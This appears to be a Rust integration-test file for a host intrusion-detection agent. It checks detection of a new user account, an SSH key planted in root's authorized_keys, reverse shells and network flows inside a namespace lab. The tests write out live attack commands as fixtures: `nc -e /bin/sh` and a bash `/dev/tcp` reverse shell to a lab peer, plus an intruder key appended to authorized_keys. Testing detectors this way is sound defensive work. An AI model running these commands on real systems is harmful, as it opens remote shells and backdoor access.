            all_findings(&mut c).await.into_iter().find(|f| {
                f.kind == "account.new_user"
                    && f.attributes.get("user").map(String::as_str) == Some("mallory")
            })
        }
    })
    .await;
    assert_eq!(
        account.attributes["by_exe"], "/usr/sbin/useradd",
        "{account:?}"
    );
    for file in ["/etc/passwd", "/etc/group", "/etc/shadow", "/etc/gshadow"] {
        assert!(
            account.attributes["changed_files"]
                .split(", ")
                .any(|f| f == file),
            "{file} listed: {account:?}"
        );
    }
    assert_eq!(
        account.attributes["group"], "mallory",
        "its own group folded in"
    );

    // A key appended by a shell's child, as an intruder would.
    let key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC5Sk4fD/kD2wmeRxx8U2JDJSxpfjDbc95BhLIlJQgmd intruder@box";
    let keys = root.join("root/.ssh/authorized_keys");
    let append = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "{{ echo '{key}'; sleep 1; }} | cat >> '{}'",
            keys.display()
        ))
        .status()
        .expect("sh");
    assert!(append.success());
    let added = eventually(Duration::from_secs(30), "account.ssh_key_added", || {
        let mut c = client.clone();
        async move {
            all_findings(&mut c)
                .await
                .into_iter()
                .find(|f| f.kind == "account.ssh_key_added")
        }
    })
    .await;
    assert_eq!(added.attributes["user"], "root");
    assert_eq!(added.attributes["path"], "/root/.ssh/authorized_keys");
    assert_eq!(
        added.attributes["fingerprint"],
        "SHA256:r9jPzQxvSX1M2tMh6cyeh2ln41IrAogPTFWBqGpNT4c"
    );
    assert_eq!(added.attributes["comment"], "intruder@box");
    assert_eq!(
        added.attributes.get("by_comm").map(String::as_str),
        Some("cat"),
        "{added:?}"
    );

    // Both settle; nothing else was raised for either change.
    tokio::time::sleep(Duration::from_secs(4)).await;
    let mut c = client.clone();
    let all = all_findings(&mut c).await;
    let noise: Vec<_> = all
        .iter()
        .filter(|f| f.kind != "account.new_user" && f.kind != "account.ssh_key_added")
        .filter(|f| f.attributes.get("path").map(String::as_str) != Some("/etc/probe"))
        .map(|f| (f.kind.clone(), f.summary.clone()))
        .collect();
    assert!(noise.is_empty(), "one finding per change: {noise:?}");
}

/// Runs a python `script` on the lab's peer and waits until it accepts on `port`.
async fn on_peer(lab: &bannin_tests::netns::Lab, script: &str, port: u16) -> Reaped {
    use bannin_tests::netns::Host;
    let python = std::fs::canonicalize(which("python3")).expect("python3");
    let peer = Reaped(
        lab.command(Host::Peer, &python)
            .args(["-c", script])
            .spawn()
            .expect("a program on the peer"),
    );
    eventually(Duration::from_secs(10), "the peer listens", || {
        let up = lab.can_connect(Host::Agent, &Host::Peer.v4(), port);
        async move { up.then_some(()) }
    })
    .await;
    peer
}

/// In the namespace lab, from the agent host's namespace to the peer: `nc
/// -e`, and a running bash that turns its own standard streams into a
/// connection (`exec 0<>/dev/tcp/…`, no new program: found by the walk, not
/// at an exec) are `process.reverse_shell` naming the peer; an interactive
/// shell started by a process that listens on a TCP port is
/// `process.service_shell`. The same service running `sh -c` is quiet.
#[tokio::test(flavor = "multi_thread")]
async fn reverse_and_service_shells_in_the_lab_needs_root() {
    use bannin_tests::netns::{Host, Lab};
    if !bannin_tests::runnable(&[
        bannin_tests::Need::Root,
        bannin_tests::Need::Program("ip", "iproute2"),
        bannin_tests::Need::Program("python3", "python3"),
        bannin_tests::Need::Program("nc.traditional", "netcat-traditional"),
    ]) {
        return;
    }
    let lab = Lab::new();
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let _agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("lab-shells"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            enable: vec!["process"],
            interval_secs: 2,
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    crate::wait_sensor_ok(&client, "process", Duration::from_secs(60)).await;
    // The attacker's end, on the peer: holds every connection open.
    let python = std::fs::canonicalize(which("python3")).expect("python3");
    let _peer = on_peer(
        &lab,
        "import socket\ns = socket.socket()\ns.bind(('10.77.0.3', 4444))\ns.listen(16)\nheld = []\nwhile True:\n    held.append(s.accept())\n",
        4444,
    )
    .await;
    let nc = Reaped(
        lab.command(Host::Agent, Path::new("/bin/nc.traditional"))
            .args(["-e", "/bin/sh", &Host::Peer.v4(), "4444"])
            .stdin(std::process::Stdio::null())
            .spawn()
            .expect("nc -e"),
    );
    let running = Reaped(
        lab.command(Host::Agent, Path::new("/bin/bash"))
            .args([
                "-c",
                "sleep 4; exec 0<>/dev/tcp/10.77.0.3/4444 1>&0 2>&0; while true; do sleep 1; done",
            ])
            .stdin(std::process::Stdio::null())
            .spawn()
            .expect("bash"),
    );
    // A service on the agent host: listens, then hands a shell its pipes.
    let service = |shell: &str| {
        format!(
            "import socket, subprocess, time\ns = socket.socket()\ns.bind(('10.77.0.2', 0))\ns.listen(1)\np = subprocess.Popen({shell}, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\nprint(p.pid, flush=True)\ntime.sleep(20)\n"
        )
    };
    let spawn_service = |shell: &str| {
        let mut child = lab
            .command(Host::Agent, &python)
            .args(["-c", &service(shell)])
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("service");
        let mut line = String::new();
        std::io::BufRead::read_line(
            &mut std::io::BufReader::new(child.stdout.take().expect("stdout")),
            &mut line,
        )
        .expect("shell pid");
        (Reaped(child), line.trim().to_owned())
    };
    let (_web, web_shell) = spawn_service("['/bin/sh', '-i']");
    let (_cgi, cgi_shell) = spawn_service("['/bin/sh', '-c', 'sleep 20']");

    let nc_pid = nc.0.id().to_string();
    let running_pid = running.0.id().to_string();
    let found = eventually(Duration::from_secs(30), "all three shells", || {
        let mut c = client.clone();
        let (nc_pid, running_pid, web_shell) =
            (nc_pid.clone(), running_pid.clone(), web_shell.clone());
        async move {
            let f = all_findings(&mut c).await;
            let of = |kind: &str, pid: &str| {
                f.iter()
                    .find(|x| {
                        x.kind == kind && x.attributes.get("pid").map(String::as_str) == Some(pid)
                    })
                    .cloned()
            };
            Some((
                of("process.reverse_shell", &nc_pid)?,
                of("process.reverse_shell", &running_pid)?,
                of("process.service_shell", &web_shell)?,
                f,
            ))
        }
    })
    .await;
    let (by_nc, by_running, web, all) = found;
    for shell in [&by_nc, &by_running] {
        assert_eq!(shell.attributes["remote_address"], "10.77.0.3", "{shell:?}");
        assert_eq!(shell.attributes["remote_port"], "4444", "{shell:?}");
        assert_eq!(shell.severity, v1::Severity::Critical as i32);
    }
    // Once, at nc's own exec (already on its socket) or at the shell's.
    assert!(
        by_nc.attributes["exe"].ends_with("nc.traditional")
            || by_nc.attributes["exe"].ends_with("sh"),
        "{by_nc:?}"
    );
    assert_eq!(by_running.attributes["when"], "running", "{by_running:?}");
    assert_eq!(web.attributes["service_exe"], python.display().to_string());
    assert_eq!(web.attributes["attack.technique"], "T1505.003");
    assert!(
        !all.iter()
            .any(|f| f.attributes.get("pid") == Some(&cgi_shell)),
        "a service running one command is quiet: {all:?}"
    );
    // Other tests' processes are on this machine too: count this test's.
    let ours = [nc_pid, running_pid, web_shell, cgi_shell.clone()];
    let shells = all
        .iter()
        .filter(|f| f.kind == "process.reverse_shell" || f.kind == "process.service_shell")
        .filter(|f| f.attributes.get("pid").is_some_and(|p| ours.contains(p)))
        .count();
    assert_eq!(shells, 3, "each shell once: {all:?}");
}

/// The flow log from the namespace lab: a 0.3 s connection from the agent
/// host's namespace to the peer (10.77.0.3) is a `net.flow` with the pid and
/// executable that opened it, the peer, the bytes and the duration — seen by
/// the kernel probe whatever namespace the socket lives in.
#[tokio::test(flavor = "multi_thread")]
async fn a_short_connection_to_the_lab_peer_is_in_the_flow_log_needs_root() {
    use bannin_tests::netns::{Host, Lab};
    if !bannin_tests::runnable(&[
        bannin_tests::Need::Root,
        bannin_tests::Need::Program("ip", "iproute2"),
        bannin_tests::Need::Program("python3", "python3"),
    ]) {
        return;
    }
    let lab = Lab::new();
    let dir = tempfile::tempdir().expect("tempdir");
    let pki = TestPki::new(dir.path());
    let collector = CollectorProc::start(&dir.path().join("collector"), &pki, free_port(), "");
    let agent = start_agent(
        &dir.path().join("agent"),
        &pki.agent("lab-flows"),
        collector.addr,
        &AgentOptions {
            net_listener: false,
            net_connection: true,
            interval_secs: 600,
            ..AgentOptions::default()
        },
    );
    let client = operator_client(&pki.operator("alice"), collector.addr).await;
    eventually(Duration::from_secs(90), "flows from eBPF", || {
        let client = client.clone();
        async move {
            sensor_health(&client, "net_connection")
                .await
                .contains("flows from eBPF")
                .then_some(())
        }
    })
    .await;
    // The peer reads whatever it is sent until the sender closes.
    let python = std::fs::canonicalize(which("python3")).expect("python3");
    let _peer = on_peer(
        &lab,
        "import socket\ns = socket.socket()\ns.bind(('10.77.0.3', 4446))\ns.listen(4)\nwhile True:\n    c, _ = s.accept()\n    while c.recv(65536):\n        pass\n    c.close()\n",
        4446,
    )
    .await;
    let sender = lab
        .command(Host::Agent, &python)
        .args([
            "-c",
            "import socket, time\ns = socket.create_connection(('10.77.0.3', 4446))\ns.sendall(b'x' * 1000)\ntime.sleep(0.3)\ns.close()\n",
        ])
        .spawn()
        .expect("sender");
    let pid = sender.id().to_string();
    assert!(Reaped(sender).0.wait().expect("wait").success());
    let flow = eventually(Duration::from_secs(30), "the sender's flow", || {
        let mut c = client.clone();
        let pid = pid.clone();
        async move {
            all_events(&mut c, "lab-flows", "net.flow")
                .await
                .into_iter()
                .filter_map(|e| e.event)
                .find(|e| e.attributes.get("pid") == Some(&pid))
        }
    })
    .await;
    let a = &flow.attributes;
    assert_eq!(
        a["direction"],
        "outbound",
        "{a:?}; agent log:\n{}",
        agent.log_text()
    );
    assert_eq!(a["remote_address"], "10.77.0.3", "{a:?}");
    assert_eq!(a["remote_port"], "4446", "{a:?}");
    assert_eq!(a["local_address"], "10.77.0.2", "{a:?}");
    assert_eq!(a["exe"], python.display().to_string(), "{a:?}");
    assert_eq!(a["bytes_sent"], "1000", "{a:?}");
    let took: u64 = a["duration_ms"].parse().expect("duration");
    assert!((250..5_000).contains(&took), "{a:?}");

    // `bannin search` finds the host that reached the lab's peer, by its
    // address and by its network, through the index.
    let operator = bannin_tests::operator_toml(dir.path(), &pki.operator("alice"), collector.addr);
    for ip in ["10.77.0.3", "10.77.0.0/24"] {
        let (ok, found, err) =
            bannin_tests::bannin_json(&operator, &["search", "--ip", ip, "--limit", "1000"]);
        assert!(ok, "{ip}: {err}");
        let host = found["hosts"]
            .as_array()
            .and_then(|h| h.iter().find(|h| h["host_id"] == "lab-flows"))
            .unwrap_or_else(|| panic!("{ip}: {found}"));
        assert!(host["events"].as_u64() >= Some(1), "{found}");
        assert!(
            found["events"].as_array().is_some_and(|e| e
                .iter()
                .any(|e| { e["kind"] == "net.flow" && e["attributes"]["pid"] == pid.as_str() })),
            "{ip}: {found}"
        );
    }
    let (_, other, _) = bannin_tests::bannin_json(&operator, &["search", "--ip", "10.78.0.0/16"]);
    assert_eq!(other["hosts"], serde_json::json!([]), "{other}");
    let (ok, by_port, err) = bannin_tests::bannin_json(&operator, &["search", "--port", "4446"]);
    assert!(ok, "{err}");
    assert!(
        by_port["hosts"].to_string().contains("lab-flows"),
        "{by_port}"
    );
}
